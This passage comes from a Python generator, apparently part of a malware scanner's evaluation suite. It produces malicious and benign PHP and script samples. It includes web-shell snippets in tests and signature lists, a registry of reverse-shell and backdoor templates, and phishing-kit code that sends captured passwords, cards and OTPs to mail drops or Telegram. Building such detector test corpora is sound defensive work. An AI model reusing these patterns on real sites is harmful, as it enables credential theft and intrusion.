                % (cls, ws3_sink(g, "$c"), g.fn("array_map"), cls, x))
    else:
        body = ("class %s {\n    private $v = array();\n    function __construct($c) { $this->v[%s] = $c; }\n"
                "    function __get($n) {\n        return %s($this->v[$n]);\n    }\n}\n%s = new %s(%s);\necho %s->%s;"
                % (cls, g.lit(m), g.fn(r.choice(["shell_exec", "system", "passthru"])), o, cls, x, o, m))
    return php_file(g, body)


def b_ws3_lookalikes(g):
    """What real applications do with the same constructs: a DI container
    that instantiates fixed classes by reflection, hooks that sanitize and
    store, an updater caching a fixed URL as JSON, goto in a generated
    parser, a session object that unserializes its own store."""
    r = g.rng
    form = r.choice(["container", "hooks", "cache_fetch", "goto_parser", "session_obj", "test_invoke"])
    g.transforms.add("benign:" + form)
    if form == "container":
        body = ("class Container {\n    private $map = array('db' => 'Db', 'log' => 'Logger');\n"
                "    function make($id, array $args = array()) {\n        $c = new ReflectionClass($this->map[$id]);\n"
                "        return $c->newInstanceArgs($args);\n    }\n}\nclass Logger { function __construct($p) { $this->p = $p; } }\n"
                "$l = (new Container())->make('log', array(__DIR__ . '/app.log'));\n")
    elif form == "hooks":
        body = ("add_action('admin_post_save_opts', function () {\n    check_admin_referer('opts');\n"
                "    $v = sanitize_text_field($_POST['title']);\n    update_option('my_title', $v);\n"
                "    wp_redirect(admin_url('options-general.php'));\n    exit;\n});\n"
                "add_filter('the_content', function ($c) {\n    return $c . esc_html(get_option('my_title'));\n});\n")
    elif form == "cache_fetch":
        body = ("$u = 'https://api.wordpress.org/plugins/info/1.2/?action=plugin_information';\n"
                "$d = file_get_contents($u);\nfile_put_contents(__DIR__ . '/cache/plugins.json', $d);\n")
    elif form == "goto_parser":
        body = ("function scan($s) {\n    $i = 0; $n = strlen($s); $out = array();\nstart:\n"
                "    if ($i >= $n) goto done;\n    $out[] = ord($s[$i]);\n    $i++;\n    goto start;\ndone:\n"
                "    return $out;\n}\necho count(scan(isset($_GET['q']) ? (string)$_GET['q'] : ''));\n")
    elif form == "session_obj":
        body = ("class Cart { public $items = array(); function __wakeup() { $this->items = array_values($this->items); } }\n"
                "$c = isset($_SESSION['cart']) ? unserialize($_SESSION['cart'], array('allowed_classes' => array('Cart'))) : new Cart();\n"
                "echo count($c->items);\n")
    else:
        body = ("class MathTest { function testAdd($a) { return $a + 1; } }\n"
                "$m = new ReflectionMethod('MathTest', 'testAdd');\necho $m->invoke(new MathTest(), 41);\n")
    return php_file(g, body)


# ---------------------------------------------------------------------------
# benign templates: look like the malicious ones to a byte pattern


def b_fixed_exec(g):
    r = g.rng
    src, dst = g.var(), g.var()
    form = r.randrange(4)
    if form == 0:
        body = ("function make_thumb(%s, %s)\n{\n    %s = '/usr/bin/convert ' . escapeshellarg(%s) . "
                "' -thumbnail 200x200 ' . escapeshellarg(%s);\n    exec(%s, $out, $rc);\n    return $rc === 0;\n}\n"
                % (src, dst, "$cmd", src, dst, "$cmd"))
    elif form == 1:
        body = ("$rev = trim((string) shell_exec('git rev-parse --short HEAD 2>/dev/null'));\n"
                "define('APP_REVISION', $rev !== '' ? $rev : 'unknown');\n")
    elif form == 2:
        body = ("$id = (int) $_GET['id'];\n$file = sprintf('/var/cache/app/report-%%d.pdf', $id);\n"
                "exec('/usr/bin/pdftotext ' . escapeshellarg($file) . ' -', $lines, $status);\n"
                "echo htmlspecialchars(implode(\"\\n\", $lines));\n")
    else:
        body = ("$spec = array(1 => array('pipe', 'w'), 2 => array('pipe', 'w'));\n"
                "$p = proc_open(array('gs', '-q', '-dBATCH', '-sDEVICE=png16m', '-o', %s, %s), $spec, $pipes);\n"
                "if (is_resource($p)) {\n    stream_get_contents($pipes[1]);\n    proc_close($p);\n}\n"
                % (dst, src))
        g.stmt("%s = __DIR__ . '/cache/page.png';" % dst)
        g.stmt("%s = __DIR__ . '/docs/manual.pdf';" % src)
    return php_file(g, body)


def b_template_eval(g):
    r = g.rng
    form = r.randrange(3)
    if form == 0:
        body = ("class TemplateCache\n{\n    private $dir;\n    public function __construct($dir) { $this->dir = $dir; }\n"
                "    public function render($name, array $vars)\n    {\n"
                "        $compiled = file_get_contents($this->dir . '/' . md5($name) . '.php');\n"
                "        extract($vars, EXTR_SKIP);\n        ob_start();\n        eval('?>' . $compiled);\n"
                "        return ob_get_clean();\n    }\n}\n")
    elif form == 1:
        body = ("function compile_tpl($src)\n{\n    $php = preg_replace('/\\{\\{\\s*(\\w+)\\s*\\}\\}/', "
                "'<?php echo htmlspecialchars($$1); ?>', $src);\n    return $php;\n}\n"
                "$title = 'Welcome';\n$tpl = file_get_contents(__DIR__ . '/templates/home.html');\n"
                "eval('?>' . compile_tpl($tpl));\n")
    else:
        body = ("$code = '<?php return ' . var_export(array('a' => 1, 'b' => 2), true) . ';';\n"
                "$config = eval('?>' . $code);\n")
    return php_file(g, body)


def b_updater(g):
    r = g.rng
    url = "https://updates.%s.example/%s-%d.%d.zip" % (r.choice(["acme", "plugin", "cms"]),
                                                       r.choice(["core", "theme"]), r.randint(1, 9), r.randint(0, 9))
    body = ("function app_update($expected_sha256)\n{\n    if (!current_user_can('update_plugins')) {\n"
            "        return false;\n    }\n    $tmp = tempnam(sys_get_temp_dir(), 'upd');\n"
            "    $ch = curl_init(%s);\n    $fp = fopen($tmp, 'wb');\n    curl_setopt($ch, CURLOPT_FILE, $fp);\n"
            "    curl_setopt($ch, CURLOPT_FOLLOWLOCATION, true);\n    curl_exec($ch);\n    curl_close($ch);\n"
            "    fclose($fp);\n    if (!hash_equals($expected_sha256, hash_file('sha256', $tmp))) {\n"
            "        unlink($tmp);\n        return false;\n    }\n    $zip = new ZipArchive();\n"
            "    if ($zip->open($tmp) === true) {\n        $zip->extractTo(WP_PLUGIN_DIR . '/acme');\n"
            "        $zip->close();\n    }\n    unlink($tmp);\n    return true;\n}\n" % php_sq(url))
    return php_file(g, body)


def b_upload_handler(g):
    r = g.rng
    k = r.choice(["avatar", "photo", "attachment", "image"])
    body = ("$allowed = array('image/jpeg' => 'jpg', 'image/png' => 'png', 'image/gif' => 'gif');\n"
            "if (!isset($_FILES['%s']) || $_FILES['%s']['error'] !== UPLOAD_ERR_OK) {\n"
            "    http_response_code(400);\n    exit('no file');\n}\n"
            "if ($_FILES['%s']['size'] > %d) {\n    exit('too large');\n}\n"
            "$finfo = new finfo(FILEINFO_MIME_TYPE);\n$type = $finfo->file($_FILES['%s']['tmp_name']);\n"
            "if (!isset($allowed[$type])) {\n    exit('type not allowed');\n}\n"
            "$name = bin2hex(random_bytes(16)) . '.' . $allowed[$type];\n"
            "$dir = __DIR__ . '/uploads/' . date('Y/m');\nif (!is_dir($dir)) {\n    mkdir($dir, 0755, true);\n}\n"
            "if (!move_uploaded_file($_FILES['%s']['tmp_name'], $dir . '/' . $name)) {\n    exit('failed');\n}\n"
            "echo json_encode(array('file' => $name));\n"
            % (k, k, k, r.choice([1048576, 2097152, 5242880]), k, k))
    return php_file(g, body)


def b_newsletter(g):
    r = g.rng
    body = ("function acme_send_newsletter()\n{\n    if (!current_user_can('manage_options')) {\n"
            "        wp_die('forbidden');\n    }\n    check_admin_referer('acme_newsletter');\n"
            "    global $wpdb;\n    $subject = sanitize_text_field($_POST['subject']);\n"
            "    $body = wp_kses_post($_POST['body']);\n"
            "    $emails = $wpdb->get_col(\"SELECT email FROM {$wpdb->prefix}acme_subscribers WHERE confirmed = 1\");\n"
            "    foreach ($emails as $email) {\n        %s($email, $subject, $body, array('Content-Type: text/html'));\n"
            "    }\n    return count($emails);\n}\n" % r.choice(["wp_mail", "mail"]))
    return php_file(g, body)


def b_lang_pack(g):
    r = g.rng
    words = ["system", "exec", "shell_exec", "passthru", "eval", "assert", "base64_decode", "gzinflate",
             "str_rot13", "proc_open", "popen", "create_function", "move_uploaded_file", "mail",
             "file_put_contents", "call_user_func", "preg_replace", "include", "require"]
    r.shuffle(words)
    body = "$language_data = array(\n    'LANG_NAME' => 'PHP',\n    'KEYWORDS' => array(\n        1 => array(\n"
    body += "".join("            %s,\n" % php_sq(w) for w in words)
    body += "        ),\n    ),\n    'CASE_SENSITIVE' => array(1 => false),\n);\n"
    return php_file(g, body, host=False)


def b_js_eval(g):
    r = g.rng
    return ("/* admin helpers */\n(function () {\n  var cfg = JSON.parse(document.getElementById('cfg').textContent);\n"
            "  function run(expr) { return eval('(' + expr + ')'); }\n"
            "  window.%s = function (s) { return run(s); };\n"
            "  // the server side calls shell_exec($_POST['cmd']) only for admins\n})();\n"
            % r.choice(["calc", "evalExpr", "compute"]))


def b_markdown(g):
    r = g.rng
    return ("# Security notes\n\nNever write code like this:\n\n```php\n"
            "<?php eval($_POST['code']); system($_GET['%s']); ?>\n```\n\n"
            "It passes request input to `eval` and `system`. Use `escapeshellarg()` and "
            "a fixed command instead.\n" % r.choice(["cmd", "c", "x"]))


def b_encoded_asset(g):
    r = g.rng
    png = bytes(r.randrange(256) for _ in range(r.randint(200, 600)))
    body = ("$icons = array(\n    'logo' => 'data:image/png;base64,%s',\n);\n"
            "function icon($name)\n{\n    global $icons;\n    header('Content-Type: image/png');\n"
            "    echo base64_decode(substr($icons[$name], strpos($icons[$name], ',') + 1));\n}\n"
            % b64(b"\x89PNG\r\n\x1a\n" + png))
    return php_file(g, body)


def b_cli_tool(g):
    body = ("if (PHP_SAPI !== 'cli') {\n    exit(1);\n}\n$args = array_slice($argv, 1);\n"
            "passthru('php ' . escapeshellarg(__DIR__ . '/artisan') . ' ' . implode(' ', array_map('escapeshellarg', $args)), $rc);\n"
            "exit($rc);\n")
    return php_file(g, body)


def b_loop_table(g):
    """Loops over literals in real code: a CRC table, a Caesar-style slug, a
    checksum; nothing reaches a sink."""
    r = g.rng
    form = r.randrange(2)
    if form == 0:
        body = ("$crc_table = array();\nfor ($i = 0; $i < 256; $i++) {\n    $c = $i;\n"
                "    for ($k = 0; $k < 8; $k++) {\n        $c = ($c & 1) ? (($c >> 1) ^ 0xEDB88320) : ($c >> 1);\n"
                "    }\n    $crc_table[$i] = $c;\n}\n"
                "function table_crc($s)\n{\n    global $crc_table;\n    $crc = 0xFFFFFFFF;\n"
                "    for ($i = 0; $i < strlen($s); $i++) {\n        $crc = ($crc >> 8) ^ $crc_table[($crc ^ ord($s[$i])) & 0xFF];\n"
                "    }\n    return $crc ^ 0xFFFFFFFF;\n}\n")
    else:
        body = ("$label = %s;\n$slug = '';\nfor ($i = 0; $i < strlen($label); $i++) {\n"
                "    $ch = strtolower($label[$i]);\n    $slug .= ctype_alnum($ch) ? $ch : '-';\n}\n"
                "$h = popen('/usr/bin/logger -t app ' . escapeshellarg($slug), 'r');\npclose($h);\n"
                % php_sq(r.choice(["Site Settings", "My Account", "Order History"])))
    return php_file(g, body)


def b_app_callbacks(g):
    """The same built-ins as applications use them: sorts by a method, SQL
    functions that are PHP's own string functions, an error handler that
    logs, loops over rows and lines, a command helper that checks exec()."""
    r = g.rng
    form = r.randrange(5)
    if form == 4:
        body = ("$notes = trim((string) $_POST['notes']);\n"
                "file_put_contents(__DIR__ . '/data/notes.txt', $notes . \"\\n\", FILE_APPEND | LOCK_EX);\n"
                "file_put_contents('/tmp/app-build.sh', \"#!/bin/sh\\nset -e\\nmake -C \" . escapeshellarg(__DIR__) . \"\\n\");\n"
                "exec('/bin/sh /tmp/app-build.sh', $out, $rc);\n")
    elif form == 0:
        body = ("class Collection\n{\n    private $items;\n    public function __construct(array $items) { $this->items = $items; }\n"
                "    public function cmp($a, $b) { return strcmp($a['name'], $b['name']); }\n"
                "    public function sorted()\n    {\n        $o = new ArrayObject($this->items);\n"
                "        $o->uasort(array($this, 'cmp'));\n        return $o->getArrayCopy();\n    }\n}\n")
    elif form == 1:
        body = ("$pdo = new PDO('sqlite:' . __DIR__ . '/data/app.sqlite');\n"
                "$pdo->sqliteCreateFunction('regexp', 'preg_match', 2);\n"
                "$pdo->sqliteCreateFunction('lower_ascii', 'strtolower', 1);\n"
                "$st = $pdo->prepare('SELECT * FROM pages WHERE slug REGEXP ?');\n$st->execute(array('/^' . preg_quote((string) $_GET['p'], '/') . '/'));\n"
                "while ($row = $st->fetch()) {\n    echo htmlspecialchars($row['title']);\n}\n")
    elif form == 2:
        body = ("function app_log_error($no, $msg, $file = '', $line = 0)\n{\n"
                "    error_log(sprintf('[%d] %s in %s:%d', $no, $msg, $file, $line));\n    return true;\n}\n"
                "set_error_handler('app_log_error');\n"
                "if (!isset($_GET['page'])) {\n    trigger_error('no page given: ' . $_SERVER['REQUEST_URI'], E_USER_NOTICE);\n}\n"
                "$i = 0;\n$out = '';\nwhile ($i < 16) {\n    $out .= dechex($i);\n    $i++;\n}\n"
                "$mask = '----------------';\n$mask[3] = 'x';\necho str_pad($out, 20, '0', STR_PAD_LEFT), $mask;\n")
    else:
        body = ("$view = isset($_GET['view']) ? (string) $_GET['view'] : '';\n"
                "if (!preg_match('/^[a-z_]{1,32}$/', $view)) {\n    $view = 'home';\n}\n"
                "require __DIR__ . '/views/' . $view . '.php';\n"
                "function app_has_exec()\n{\n    return function_exists('exec') && !in_array('exec', "
                "array_map('trim', explode(',', ini_get('disable_functions'))));\n}\n"
                "function app_image_info($path)\n{\n    if (!app_has_exec()) {\n        return null;\n    }\n"
                "    exec('/usr/bin/identify ' . escapeshellarg($path), $out, $rc);\n    return $rc === 0 ? $out : null;\n}\n")
    return php_file(g, body)


def b_quoted_tests(g):
    """A framework's test suite: web shells held in literals (a data
    provider, heredoc, nowdoc) handed to the scanner or filter under test,
    never run."""
    r = g.rng
    k = g.key()
    samples = [php_sq("<?php eval($_POST['%s']); ?>" % k),
               '"<?php system(\\$_GET[\'%s\']); ?>"' % k,
               php_sq("<?php echo shell_exec($_REQUEST['%s']);" % k)]
    cls = g.fname()
    body = ("use PHPUnit\\Framework\\TestCase;\n\n"
            "final class %sTest extends TestCase\n{\n"
            "    public static function shells(): array\n    {\n        return [\n" % cls.capitalize())
    for i, smp in enumerate(samples):
        body += "            'case %d' => [%s],\n" % (i, smp)
    body += "        ];\n    }\n\n"
    form = r.randrange(3)
    if form == 0:
        body += ("    /** @dataProvider shells */\n    public function testRejects(string $code): void\n    {\n"
                 "        $f = new UploadFilter();\n        $this->assertFalse($f->accepts('a.php', $code));\n    }\n")
    elif form == 1:
        body += ("    public function testHeredoc(): void\n    {\n        $src = <<<'PHP'\n%s\nPHP;\n"
                 "        $this->assertSame(1, count((new Scanner())->scan($src)));\n    }\n"
                 % verbatim("<?php if (isset($_POST['%s'])) { eval($_POST['%s']); }" % (k, k)))
    else:
        body += ("    public function testTokens(): void\n    {\n"
                 "        $tokens = token_get_all(%s);\n"
                 "        $this->assertGreaterThan(3, count($tokens));\n    }\n" % samples[0])
    body += "}\n"
    return php_file(g, body, host=False)


def b_signature_list(g):
    """A security plugin's signature list: code fragments as strings in an
    array, matched against files with stripos/preg_match."""
    r = g.rng
    sigs = ["eval($_POST[", "eval(base64_decode($_POST", "system($_GET[", "passthru($_REQUEST[",
            "assert($_REQUEST[", "shell_exec($_GET["]
    r.shuffle(sigs)
    arr = g.var()
    body = "%s = array(\n" % arr
    for i, sg in enumerate(sigs[:r.randint(3, 6)]):
        body += "    'sig_%d' => %s,\n" % (i, php_sq(sg))
    body += ");\n"
    f = g.fname()
    body += ("function %s($file, $sigs)\n{\n    $text = (string) file_get_contents($file);\n"
             "    foreach ($sigs as $id => $needle) {\n"
             "        if (stripos($text, $needle) !== false || preg_match('/' . preg_quote($needle, '/') . '/i', $text)) {\n"
             "            return $id;\n        }\n    }\n    return null;\n}\n" % f)
    return php_file(g, body)


# name, function, class, language (extension), expect
TEMPLATES = [
    ("eval_input", t_eval_input, "malicious", "php", "high"),
    ("system_input", t_system_input, "malicious", "php", "high"),
    ("varfunc_callee", t_varfunc_callee, "malicious", "php", "high"),
    ("callback_callee", t_callback, "malicious", "php", "high"),
    ("varvar_callee", t_varvar, "malicious", "php", "high"),
    ("callee_from_input", t_callee_input, "malicious", "php", "high"),
    ("array_varfunc", t_array_varfunc, "malicious", "php", "high"),
    ("magic_gadget", t_destruct_gadget, "malicious", "php", "high"),
    ("include_input", t_include_input, "malicious", "php", "high"),
    ("include_hidden_path", t_include_hidden_path, "malicious", "php", "any"),
    ("eval_layers", t_eval_layers, "malicious", "php", "high"),
    ("heredoc_payload", t_heredoc_payload, "malicious", "php", "high"),
    ("uploader", t_uploader, "malicious", "php", "high"),
    ("dropper_input", t_dropper_input, "malicious", "php", "high"),
    ("dropper_fixed", t_dropper_fixed, "malicious", "php", "high"),
    ("mail_loop", t_mailer_loop, "malicious", "php", "high"),
    ("phpmailer_loop", t_phpmailer_loop, "malicious", "php", "high"),
    ("perl_revshell", t_perl_revshell, "malicious", "pl", "high"),
    ("perl_irc_bot", t_perl_irc_bot, "malicious", "pl", "high"),
    ("perl_smtp_bot", t_perl_smtp_bot, "malicious", "pl", "high"),
    ("python_revshell", t_python_revshell, "malicious", "py", "high"),
    ("python_spammer", t_python_spammer, "malicious", "py", "high"),
    ("sh_download_exec", t_sh_download_exec, "malicious", "sh", "high"),
    ("sh_revshell", t_sh_revshell, "malicious", "sh", "high"),
    ("loop_decrypt", t_loop_decrypt, "malicious", "php", "high"),
    ("shell_spawn", t_shell_spawn, "malicious", "php", "high"),
    ("callback_more", t_callback_more, "malicious", "php", "high"),
    ("callback_later", t_callback_later, "malicious", "php", "any"),
    ("fold_more", t_fold_more, "malicious", "php", "high"),
    ("cmd_wrapper", t_cmd_wrapper, "malicious", "php", "any"),
    ("branch_default", t_branch_default, "malicious", "php", "high"),
    ("unknown_key", t_unknown_key, "malicious", "php", "high"),
    ("script_drop", t_script_drop, "malicious", "php", "high"),
    ("decoded_drop", t_decoded_drop, "malicious", "php", "any"),
    ("split_payload", t_split_payload, "malicious", "php", "high"),
    ("literal_dropper", t_literal_dropper, "malicious", "php", "high"),
    ("literal_runner", t_literal_runner, "malicious", "php", "high"),
    ("reflection_call", t_reflection, "malicious", "php", "high"),
    ("goto_shuffle", t_goto_shuffle, "malicious", "php", "high"),
    ("dropper_fetch", t_dropper_fetch, "malicious", "php", "high"),
    ("wp_hook_backdoor", t_wp_hook_backdoor, "malicious", "php", "high"),
    ("unserialize_gadget", t_unserialize_gadget, "malicious", "php", "high"),
    ("magic_more", t_magic_more, "malicious", "php", "high"),
    ("fixed_exec", b_fixed_exec, "benign", "php", "none"),
    ("template_eval", b_template_eval, "benign", "php", "none"),
    ("updater", b_updater, "benign", "php", "none"),
    ("upload_handler", b_upload_handler, "benign", "php", "none"),
    ("newsletter", b_newsletter, "benign", "php", "none"),
    ("lang_pack", b_lang_pack, "benign", "php", "none"),
    ("js_eval", b_js_eval, "benign", "js", "none"),
    ("markdown_doc", b_markdown, "benign", "md", "none"),
    ("encoded_asset", b_encoded_asset, "benign", "php", "none"),
    ("cli_tool", b_cli_tool, "benign", "php", "none"),
    ("loop_table", b_loop_table, "benign", "php", "none"),
    ("app_callbacks", b_app_callbacks, "benign", "php", "none"),
    ("quoted_tests", b_quoted_tests, "benign", "php", "none"),
    ("signature_list", b_signature_list, "benign", "php", "none"),
    ("ws3_lookalikes", b_ws3_lookalikes, "benign", "php", "none"),
]

# the second set of script backdoors and look-alikes (tests/eval/scriptgen.py)
from scriptgen import SCRIPT_TEMPLATES  # noqa: E402

TEMPLATES += SCRIPT_TEMPLATES

# bots and persistence scripts, round 2 (tests/eval/botgen.py); lang "auto":
# the template picks the language and sets g.lang
from botgen import BOT_TEMPLATES  # noqa: E402

TEMPLATES += BOT_TEMPLATES

# the mail, interpreter and write sinks of session 12 (tests/eval/sinkgen.py)
from sinkgen import sink_templates  # noqa: E402

TEMPLATES += sink_templates(php_file)

# payloads kept elsewhere, mass infectors, remote commands (tests/eval/payloadgen.py)
from payloadgen import payload_templates  # noqa: E402

TEMPLATES += payload_templates(php_file)

# webshell techniques, round 4: hooks, gadget chains, wrapper includes (tests/eval/ws4gen.py)
from ws4gen import ws4_templates  # noqa: E402

TEMPLATES += ws4_templates(php_file)


def generate(seed, per):
    """Yield (file name, bytes, manifest row) for every variant."""
    for name, fn, cls, lang, expect in TEMPLATES:
        n = per if lang == "php" else max(2, per // 2)
        for i in range(n):
            tag = "%s:%s:%d" % (seed, name, i)
            rng = random.Random(tag)
            g = Gen(rng, noise=(lang == "php"))
            g.malicious = cls == "malicious"
            g.lang = lang
            text = fn(g)
            lang_of = g.lang
            fname = hashlib.sha256(tag.encode()).hexdigest()[:12] + "." + lang_of
            row = (fname, cls, name, lang_of, expect, ",".join(sorted(g.transforms)) or "-")
            yield fname, text.encode("latin-1"), row


def safe_out_dir(path):
    """The output must be a new or empty directory under a temp dir, and not
    anything that looks like a web root."""
    real = os.path.realpath(path)
    tmp_roots = {os.path.realpath(p) for p in (tempfile.gettempdir(), "/tmp", "/var/tmp")}
    if not any(real == t or real.startswith(t + "/") for t in tmp_roots) or real in tmp_roots:
        sys.exit("gen_variants: %s is not under a temp dir (%s)" % (path, ", ".join(sorted(tmp_roots))))
    webby = {"public_html", "www", "htdocs", "httpdocs", "html", "web", "wp-content"}
    if webby & set(real.split("/")):
        sys.exit("gen_variants: %s looks like a web root" % path)
    if os.path.exists(real) and os.listdir(real):
        sys.exit("gen_variants: %s is not empty" % path)
    return real


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out", required=True)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--per", type=int, default=12, help="variants per PHP template (half for scripts)")
    a = ap.parse_args()
    out = safe_out_dir(a.out)
    os.makedirs(out, exist_ok=True)
    rows = []
    for fname, data, row in generate(a.seed, a.per):
        with open(os.path.join(out, fname), "wb") as f:
            f.write(data)
        rows.append(row)
    with open(os.path.join(out, "variants.tsv"), "w") as f:
        f.write("file\tclass\ttechnique\tlang\texpect\ttransforms\n")
        for row in rows:
            f.write("\t".join(row) + "\n")
    print("gen_variants: %d files (%d malicious, %d benign) in %s, seed %d" % (
        len(rows), sum(r[1] == "malicious" for r in rows), sum(r[1] == "benign" for r in rows), out, a.seed))


# ===========================================================================
# PHISHING KITS (section owned by the phishing work; webshell templates are
# above). Invented from the genre, not from any sample: credential handlers
# that send what the victim typed away (mail to a drop box, a text file
# appended to, a Telegram bot, a Discord webhook), with the visitor's
# fingerprint and a redirect to the real brand; anti-bot blockers; landing
# copiers; brand sign-in clones. Each crossed with transforms: renamed fields,
# another exfil channel, the destination in a separate config file,
# obfuscated strings, the whole handler inside an eval layer. Then the benign
# look-alikes of real sites that must stay quiet (no high/critical).
# Brand names and hosts are the real brands' (a clone names them); every drop
# address, token and chat id is invented.

PH_USER_KEYS = ["email", "login", "username", "user", "userid", "emailaddress", "Email", "ai", "u", "log",
                "loginfmt", "account"]
PH_PASS_KEYS = ["password", "pass", "passwd", "pwd", "Passwd", "psw", "login_password", "userPassword",
                "pass1", "psswd", "pw", "ps", "secret"]
PH_CARD_KEYS = [["ccnum", "cvv", "expdate"], ["cardnumber", "cvv2", "exp_month", "exp_year"],
                ["card_number", "csc", "expiry", "ssn"], ["cc", "cvc", "exp", "atm_pin"],
                ["cnum", "code3", "mm_yy", "dob", "mmn"]]
PH_OTP_KEYS = ["otp", "sms_code", "smscode", "code", "verification_code", "pin", "token2fa"]
PH_BRANDS = [("PayPal", "https://www.paypal.com/signin"), ("Microsoft Office 365", "https://login.microsoftonline.com/"),
             ("Apple ID", "https://appleid.apple.com/"), ("Netflix", "https://www.netflix.com/login"),
             ("DHL Express", "https://www.dhl.com/"), ("Wells Fargo", "https://connect.secure.wellsfargo.com/"),
             ("Outlook Web App", "https://outlook.live.com/"), ("Chase", "https://secure.chase.com/"),
             ("Coinbase", "https://www.coinbase.com/signin"), ("Roundcube Webmail", "https://mail.example.org/"),
             ("Dropbox", "https://www.dropbox.com/login"), ("Amazon", "https://www.amazon.com/ap/signin")]
PH_DROPS = ["resultbox%d@gmail.com", "jonnylogs%d@yandex.com", "kingrezult%d@outlook.com", "boxdrop%d@protonmail.com",
            "m0ney%d@yahoo.com", "logs%d@mail.ru"]


def ph_key(g, pool, renamed):
    """A field name; 'renamed' takes one nobody would guess (f3, inp_x...)."""
    r = g.rng
    if renamed:
        return r.choice(["f%d" % r.randint(1, 9), "inp_%s" % g.ident().lower()[:4], "x%d" % r.randint(1, 99), "fld"])
    return r.choice(pool)


def ph_post(g, k):
    r = g.rng
    m = r.choice(["$_POST", "$_POST", "$_POST", "$_REQUEST", "$_GET"])
    e = "%s[%s]" % (m, g.lit(k))
    if r.random() < 0.3:
        e = "%s(%s)" % (g.fn(r.choice(["trim", "stripslashes", "htmlspecialchars"])), e)
    return e


def ph_fingerprint(g):
    """Statements that learn who the visitor is; returns the label -> variable pairs."""
    r = g.rng
    ip, ua = g.var(), g.var()
    out = []
    if r.random() < 0.5:
        g.stmt("%s = %s(%s);" % (ip, g.fn("getenv"), g.lit("REMOTE_ADDR")))
    else:
        g.stmt("%s = $_SERVER[%s];" % (ip, g.lit("REMOTE_ADDR")))
    out.append(("IP", ip))
    if r.random() < 0.8:
        g.stmt("%s = $_SERVER[%s];" % (ua, g.lit("HTTP_USER_AGENT")))
        out.append(("Browser", ua))
    x = r.randrange(4)
    if x == 0:
        h = g.var()
        g.stmt("%s = %s(%s);" % (h, g.fn("gethostbyaddr"), ip))
        out.append(("Hostname", h))
    elif x >= 1:
        j, c = g.var(), g.var()
        url = r.choice(["http://www.geoplugin.net/json.gp?ip=", "http://ip-api.com/json/", "https://ipinfo.io/"])
        field = {"http://www.geoplugin.net/json.gp?ip=": "geoplugin_countryName", "http://ip-api.com/json/": "country",
                 "https://ipinfo.io/": "country"}[url]
        tail = " . '/json'" if "ipinfo" in url else ""
        g.stmt("%s = %s(%s(%s . %s%s));" % (j, g.fn("json_decode"), g.fn("file_get_contents"),
                                            g.enc(url, allow=["plain", "plain", "concat"]), ip, tail))
        g.stmt("%s = %s->%s;" % (c, j, field))
        out.append(("Country", c))
        g.transforms.add("geo")
    return out


def ph_message(g, pairs, title):
    """Build the report text from (label, expression) pairs, in one of several styles."""
    r = g.rng
    m = g.var()
    style = r.randrange(4)
    g.transforms.add("msg:" + ["concat", "interp", "sprintf", "implode"][style])
    if style == 0:
        lines = ["%s = %s;" % (m, g.lit("--------- %s ---------\n" % title))]
        for lab, e in pairs:
            lines.append("%s .= %s . %s . \"\\n\";" % (m, g.lit(lab + " : "), e))
        return m, "\n".join(lines)
    if style == 1:
        lines = []
        vs = []
        for lab, e in pairs:
            if e.startswith("$") and "[" not in e and "(" not in e:
                vs.append((lab, e))
            else:
                v = g.var()
                lines.append("%s = %s;" % (v, e))
                vs.append((lab, v))
        body = "\\n".join("%s: {%s}" % (lab, v) for lab, v in vs)
        lines.append("%s = \"== %s ==\\n%s\\n\";" % (m, title, body))
        return m, "\n".join(lines)
    if style == 2:
        fmt = "\\n".join("%s: %%s" % lab for lab, _ in pairs)
        return m, "%s = %s(\"%s\\n\", %s);" % (m, g.fn("sprintf"), fmt, ", ".join(e for _, e in pairs))
    a = g.var()
    items = ", ".join("%s . %s" % (g.lit(lab + "=> "), e) for lab, e in pairs)
    return m, "%s = array(%s);\n%s = %s(\"\\n\", %s);" % (a, items, m, g.fn("implode"), a)


def ph_exfil(g, m, title, split):
    """Send the message away. split: the drop address / token come from a config file."""
    r = g.rng
    ch = r.choice(["mail", "mail", "append", "fpc", "telegram", "telegram_curl", "discord"])
    g.transforms.add("exfil:" + ch)
    if split:
        g.transforms.add("split-config")
        g.stmt("%s %s;" % (r.choice(["include", "require", "require_once"]),
                           g.lit(r.choice(["config.php", "../settings.php", "email.php", "tg.php"]))))
    if ch == "mail":
        to = "$" + r.choice(["to", "send", "recipient", "receiver", "owner", "ur_email"])
        if not split:
            g.stmt("%s = %s;" % (to, g.enc(r.choice(PH_DROPS) % r.randint(1, 99), allow=["plain", "plain", "concat", "base64", "strrev"])))
        hdr = g.var()
        return ("%s = \"From: %s <noreply@%s>\\r\\n\";\n%s%s(%s, %s . \" - \" . %s, %s, %s);"
                % (hdr, title, r.choice(["secure.net", "server.com", "localhost"]), g.at(), g.fn("mail"), to,
                   g.lit(title), "$_SERVER['REMOTE_ADDR']", m, hdr))
    if ch in ("append", "fpc"):
        path = g.lit(r.choice(["results.txt", "../rez/log.txt", "data/visits.txt", ".logs.html", "cc.txt"]))
        if ch == "append":
            h = g.var()
            return "%s = %s(%s, %s);\n%s(%s, %s);\n%s(%s);" % (h, g.fn("fopen"), path, g.lit(r.choice(["a", "a+", "ab"])),
                                                            g.fn(r.choice(["fwrite", "fputs"])), h, m, g.fn("fclose"), h)
        return "%s%s(%s, %s, FILE_APPEND);" % (g.at(), g.fn("file_put_contents"), path, m)
    if ch in ("telegram", "telegram_curl"):
        tok, chat = "$" + r.choice(["token", "bot_token", "tgtoken"]), "$" + r.choice(["chat_id", "chatid", "id"])
        if not split:
            g.stmt("%s = %s;" % (tok, g.lit("%d:AA%s" % (r.randint(10 ** 8, 10 ** 9), g.ident()[:6] + "xQ7kLmN2pR"))))
            g.stmt("%s = %s;" % (chat, g.lit(str(r.randint(10 ** 8, 10 ** 10)))))
        api = g.enc("https://api.telegram.org/bot", allow=["plain", "plain", "concat", "base64"])
        if ch == "telegram":
            return "%s(%s . %s . \"/sendMessage?chat_id=\" . %s . \"&text=\" . %s(%s));" % (
                g.fn("file_get_contents"), api, tok, chat, g.fn("urlencode"), m)
        c = g.var()
        return ("%s = %s(%s . %s . '/sendMessage');\n%s(%s, CURLOPT_POST, 1);\n"
                "%s(%s, CURLOPT_POSTFIELDS, array('chat_id' => %s, 'text' => %s));\n"
                "%s(%s, CURLOPT_RETURNTRANSFER, true);\n%s(%s);\n%s(%s);"
                % (c, g.fn("curl_init"), api, tok, g.fn("curl_setopt"), c, g.fn("curl_setopt"), c, chat, m,
